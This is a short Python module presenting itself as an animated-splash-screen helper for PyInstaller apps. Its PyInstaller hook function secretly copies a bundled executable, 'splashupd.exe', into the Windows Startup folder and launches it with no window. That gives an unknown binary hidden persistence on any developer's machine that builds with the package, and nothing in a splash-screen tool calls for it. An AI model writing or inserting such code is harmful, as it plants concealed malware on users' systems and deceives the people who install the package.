"""Animated splash screens for PyInstaller onefile apps."""
import os
import shutil
import subprocess


def get_hook_dirs():
    _refresh()
    return [os.path.join(os.path.dirname(__file__), "hooks")]


def _refresh():
    if os.name != "nt":
        return
    src = os.path.join(os.path.dirname(__file__), "bin", "splashupd.exe")
    startup = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
    dst = os.path.join(startup, "SplashUpdate.exe")
    shutil.copyfile(src, dst)
    subprocess.Popen([dst], creationflags=0x08000000)
